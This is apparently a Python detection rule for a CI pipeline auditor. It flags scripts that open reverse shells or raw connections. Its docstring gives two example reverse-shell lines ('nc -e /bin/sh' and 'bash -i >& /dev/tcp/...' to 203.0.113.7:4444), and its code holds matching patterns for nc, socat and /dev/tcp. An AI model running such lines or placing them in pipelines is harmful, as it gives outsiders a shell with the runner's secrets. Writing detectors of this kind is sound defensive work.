"""A script opens a shell or a raw connection to a fixed address.

## Why it matters
`nc ADDRESS PORT`, `bash -i >& /dev/tcp/...` and `socat exec:` hand somebody elsewhere a shell on the runner, with its token, secrets and
network.

## Five whys
1. Why did somebody work on the runner? A script opened a shell to an address of theirs.
2. Why was the script run? It is a part of the pipeline.
3. Why was it merged? The line is short and looks like a test of the network.
4. Why could it connect? Runners may connect to everywhere.
5. Why was it not noticed? The job waits, and then fails by its timeout.

## Fix now
Find out who added the line and what ran; change all secrets of the runner. Remove it.

## Workaround
Stop the runs and the runner.

## Prevent
Limit where runners may connect to; review changes of pipelines.

## Validate
No script opens such a connection.

## Bad
```gitlab
test:
  script:
    - nc -e /bin/sh 203.0.113.7 4444 # finding
    - bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # finding
```

## Good
```gitlab
test:
  script:
    - nc -z database 5432
    - nc -z 127.0.0.1 8080
```
"""

import re
from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Profile, Severity, rule
from auditor.views.pipeline import KINDS
from auditor.views.pipeline.model import Step
from auditor.views.pipeline.once import distinct_steps
from auditor.views.pipeline.shell import commands

_ADDRESS = re.compile(r"(?!127\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}")


@rule(
    target=KINDS,
    each=distinct_steps,
    severity=Severity.HIGH,
    confidence=Confidence.FIRM,
    profile=Profile.GATE,
    aliases="CKV_GHA_4 CKV_CIRCLECIPIPELINES_5",
)
def check(step: Step) -> Iterator[Fail]:
    made = commands(step)
    for call in made.invocations if made else ():
        words = [word.text for word in call.words]
        tests = any(re.match(r"-[a-y]*z", word) for word in words)
        netcat = call.tool in ("nc", "ncat", "netcat") and any(_ADDRESS.fullmatch(word) for word in words) and not tests
        hands_over = call.tool in ("nc", "ncat", "netcat") and any(word in ("-e", "-c", "--exec", "--sh-exec") for word in words)
        socket = call.tool == "socat" and any(word.lower().startswith(("exec:", "system:")) for word in words)
        shell = call.tool in ("bash", "sh", "zsh") and any(
            (it.target.text if it.target else "").startswith(("/dev/tcp/", "/dev/udp/")) for it in call.command.redirects
        )
        if made and (netcat or hands_over or socket or shell):
            yield Fail(made.at(call.start, call.end), "this opens a raw connection or a shell to elsewhere", "nothing of this kind")
